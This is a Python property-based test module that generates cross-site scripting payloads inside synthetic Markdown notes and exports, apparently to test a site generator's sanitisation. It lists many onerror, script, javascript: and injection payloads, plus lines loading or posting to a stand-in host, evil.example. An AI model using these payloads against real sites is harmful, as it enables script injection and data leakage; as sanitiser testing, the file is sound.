"""A grammar of hostile notes and exports: what somebody might write so that it runs in a reader's browser.

Every payload that runs calls `alert`. Snippets are drawn by hypothesis, many at once, to be built into pages.
"""

from __future__ import annotations

import functools
import json
import random
import re
from collections.abc import Mapping, Sequence

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from test_properties import CONTEXTS, PAYLOADS, PIECES, filled

MORE_PAYLOADS = (
    "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<img src=x onerror=alert(1)>", "`<img src=x onerror=alert(1)>`", "<img src=x onerror=alert(1)//",
    "<<img src=x onerror=alert(1)>",
    "<details ontoggle=alert(1) open>", "<a href='https://a.org' onfocus=alert(1) autofocus>x</a>",
    "<input onfocus=alert(1) autofocus>",
    "<style>@import '//evil.example/x.css'</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x></object>", "<form action=//evil.example/><button>x</button></form>",
    "<img src=//evil.example/p.png>",
    "![x](https://evil.example/p.png)", "![x](//evil.example/p.png)", "<img srcset='//evil.example/p.png 1x'>",
    "<video src=//evil.example/v poster=//evil.example/p>", "<p style='background:url(//evil.example/b)'>x</p>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>", "<svg><script>alert(1)</script></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<table><td><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)>", "$\\href{javascript:alert(1)}{x}$",
    "$\\text{</mtext><script>alert(1)</script>}$",
    "$$\\unicode{60}img src=x onerror=alert(1)>$$", "[x](java&#10;script:alert(1))", "[x](&#x6A;avascript:alert(1))",
    "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]", "[[javascript:alert(1)]]",
    "[[b|<img src=x onerror=alert(1)>]]",
    '```{.json #__config}\n{"base": "https://evil.example/"}\n```', "```mermaid\ngraph TD; A-->B\n```",
    "```{.mermaid}\nx\n```", "``` py title=<img/src=x/onerror=alert(1)>\nx\n```",
    '``` py linenums=1 title="<img src=x onerror=alert(1)>"\nx\n```',
    "x\n{: #__search }", "<p id=__config>{}</p>", "<img name=getElementById src=i.png>", "[x](b.md){: data-tabs=y }",
    "x\n{: .tabbed-set }", "[x](b.md){: .footnote-ref }", "x[^<img src=x onerror=alert(1)>]",
    "&#xFDD8;0&#xFDD8;", "&#xFDD9;<script>alert(1)</script>&#xFDDB;",
    '``` py title="&#xFDD8;0&#xFDD8;"\nx\n```', "</article></main><script>alert(1)</script>", "{{ config }}",
    "{% raw %}<script>alert(1)</script>",
    ":material-alert:{ onclick=alert(1) }", "==<img src=x onerror=alert(1)>==",
    "++ctrl+<img src=x onerror=alert(1)>++", "{++<script>alert(1)</script>++}",
    "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML", "term\n: <img src=x onerror=alert(1)>",
    "(c) <script>alert(1)</script>", "a^<b>^ H~2~O",
)  # fmt: skip
MORE_CONTEXTS = (
    "x[^1]\n\n[^1]:\n    @", "x[^1]\n\n[^1]:\n        @", "x[^1]\n\n[^1]: > @", '- [x](b.md "@")',
    '<span title="@">x</span>',
    'x\n{: title="@" }', '**x**{: title="@" }', "<abbr title='@'>x</abbr>", "## [@](b.md)",
    "[![@](i.png)](b.md)", "> ```\n> @\n> ```",
    "- ```\n  @\n  ```", '![x](i.png){: alt="@" }', "[x](<a.md#@>)", "![[work#h-1]] @",
    '```py hl_lines="@"\nx\n```', "1. @\n\n    @",
    "<details><summary>@</summary>\n\n@\n\n</details>", '=== "@"\n\n    @\n\n=== "b"\n\n    @',
    "<!-- @ -->\n\n@", "```\n@", "<@",
    "==@==", "++@++", "{==@==}{>>@<<}", "~~@~~", ":@:", "*[@]: @\n\n@",
)  # fmt: skip
payloads = st.sampled_from([*PAYLOADS, *MORE_PAYLOADS])
soup = st.lists(st.sampled_from(PIECES), max_size=12).map("".join)
snippets = st.recursive(
    st.one_of(payloads, payloads, soup),
    lambda inner: st.tuples(st.sampled_from([*CONTEXTS, *MORE_CONTEXTS]), inner).map(filled),
    max_leaves=3,
).map(lambda text: text.replace("\x00", ""))


@functools.cache
def gathered(count: int, number: int) -> tuple[str, ...]:
    """So many snippets, the same ones for the same number."""
    found: dict[str, None] = {}

    @seed(number)
    @settings(
        max_examples=3 * count,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(snippets)
    def gather(text: str) -> None:
        if len(found) < count:
            found[text] = None

    gather()
    return tuple(found)


def _inside(text: str, rng: random.Random) -> str:
    """A snippet in a container that ends where it does, whatever it leaves open."""
    first, rest = rng.choice([("> ", "> "), ("- ", "  "), ("1. ", "   "), ("> - ", ">   "), ("", "")])
    return "\n".join((first if number == 0 else rest) + line for number, line in enumerate(text.split("\n")))


def knowledge_base(texts: Sequence[str], each: int, number: int) -> Mapping[str, str]:
    """Notes and exports that hold the snippets, `each` on a page, and links to all highlights."""
    rng = random.Random(number)
    files = {"notes/b.md": "# B\n", "notes/i.png": "x", "notes/index.md": "# Home\n\n"}
    for start in range(0, len(texts), each):
        batch = texts[start : start + each]
        name = f"page-{start // each:05}"
        words = "\n\n".join(f"## {at}\n\n{_inside(text, rng)}" for at, text in enumerate(batch))
        files[f"notes/{name}.md"] = f"# {_line(rng.choice(batch))}\n\n{words}\n"
        files["notes/index.md"] += f"[{name}]({name}.md)\n"
    files["notes/highlights.json"] = json.dumps([_book(at, rng, texts) for at in range(2 + len(texts) // 100)])
    files["notes/book.json"] = json.dumps([_book(900, rng, texts)])
    links = (f"- [it](book.json#h-900{at}) ![[book#h-900{at}]] [[{_line(rng.choice(texts))}]]\n" for at in range(8))
    files["notes/links.md"] = "# Links\n\n" + "".join(links)
    files["notes/My Clippings.txt"] = "==========\n".join(
        f"{_line(rng.choice(texts))} ({_line(rng.choice(texts))})\n- Your Highlight on page {at} | Location {at}-{at + 1} | "
        f"Added on Monday, January 1, 2024 10:00:00 AM\n\n{_line(rng.choice(texts))}\n"
        for at in range(1, 6)
    )
    files["notes/front.md"] = (
        "---\n"
        + "".join(
            f"{key}: {json.dumps(_line(rng.choice(texts)))}\n"
            for key in ("title", "description", "author", "date", "lang", "icon", "status")
        )
        + f"tags: [{json.dumps(_line(rng.choice(texts)))}]\n---\n\nx\n"
    )
    files |= _lately(rng, texts)
    files["glossary/terms.md"] = "# Glossary\n\n" + "".join(
        f"## {_line(rng.choice(texts)) or 'x'}\n\n{_line(rng.choice(texts))}\n\n" for _ in range(4)
    )
    return files


def _lately(rng: random.Random, texts: Sequence[str]) -> dict[str, str]:
    """Notes for what the site makes of several: cards, steps, facing pages, papers, tags, backlinks, a home, feeds."""

    def one() -> str:
        return _line(rng.choice(texts))

    def said(text: str) -> str:  # as YAML
        return json.dumps(text)

    plain = [text for text in map(_line, texts) if not re.search(r"[<`|$\[\\]", text)] or ["x"]
    posts = "\n\n".join(
        f"Example {at}:\n\n\U0001d5d5\U0001d5fc\U0001d5f9\U0001d5f1 {rng.choice(plain)}\n→ {rng.choice(plain)}\n→ two "
        f"&lt;img src=x onerror=alert(1)&gt;\n\n#one #two #{rng.choice(plain).replace(' ', '')}"
        for at in range(1, 5)
    )
    numbered = "\n\n".join(f"## {at}. {one()}\n\n{one()}\n\nIt is said in [b](b.md) {one()}" for at in range(1, 9))
    papers = "\n\n".join(
        f"- [{one()}](https://arxiv.org/abs/2401.{at:05}) {one()} (notes below)\n- {one()}: https://doi.org/10.1000/{at}<{one()}\n\n"
        f"### [{one()}](https://arxiv.org/abs/2401.{at:05}v2)\n\n{one()}"
        for at in range(1, 6)
    )
    keys = (
        "title description summary author authors image cover cover_image url source canonical permalink lang kind status icon "
        "template hide tags aliases date publishdate series category"
    ).split()
    files = {
        f"notes/dated-{at}.md": "---\n"
        f"date: 2024-01-{at:02}\n"
        + "".join(
            f"{key}: {said(one()) if rng.random() < 0.7 else json.dumps([one(), {one(): one()}])}\n"
            for key in rng.sample(keys, 9)
            if key != "date"
        )
        + f"---\n\n{one()}\n\n#tag/{_word(one())} [[{one()}]] [b](b.md) {one()}\n"
        for at in range(1, 9 if len(texts) >= 1_000 else 3)  # each has pages of tags, too
    }
    return {
        **files,
        "notes/posts.md": f"# Posts\n\n{posts}\n",
        "notes/steps.md": f"# {one()}\n\n{numbered}\n",
        "notes/facing.md": f"---\nlang: en\ntitle: {said(one())}\n---\n\n## A\n\n{one()}\n\n## B\n\n{one()}\n",
        "notes/facing.fr.md": f"---\nlang: fr\ntitle: {said(one())}\n---\n\n## A\n\n{one()}\n\n## B\n\n{one()}\n",
        "notes/papers-of.md": f"# Papers\n\n{papers}\n",
        "notes/tagged.md": f"---\ntags: [{', '.join(said(one()) for _ in range(3))}]\n---\n# Tagged\n\n"
        f"#{_word(one())} #a/{_word(one())}\n",
        "notes/contents.md": "# Contents\n\n"
        + "".join(f"- [{one()}](#{at})\n" for at in range(9))
        + "".join(f"\n## {at}\n\n{one()}\n" for at in range(9)),
        "glossary/other.md": "".join(
            f"**{one()}** (also called {one()}): {one()} [b](../notes/b.md)\n\n" for _ in range(4)
        ),
    }


def _word(text: str) -> str:
    return "".join(text.split())


def _line(text: str) -> str:
    return " ".join(text.split()) or "x"


def _book(number: int, rng: random.Random, texts: Sequence[str]) -> dict[str, object]:
    words = [rng.choice(texts) for _ in range(8)]
    highlights = [
        {"id": f"{number}{at}", "text": text, "note": words[0], "tags": [{"name": words[1]}], "url": words[2]}
        for at, text in enumerate(rng.sample(texts, min(8, len(texts))))
    ]
    return {
        "user_book_id": number, "title": _line(words[3]) + " which is a title that does not fit into any label",
    "author": words[4],
        "category": "articles", "source_url": words[5], "cover_image_url": words[6], "book_tags": [{"name": words[7]}],
        "highlights": highlights,
    }  # fmt: skip
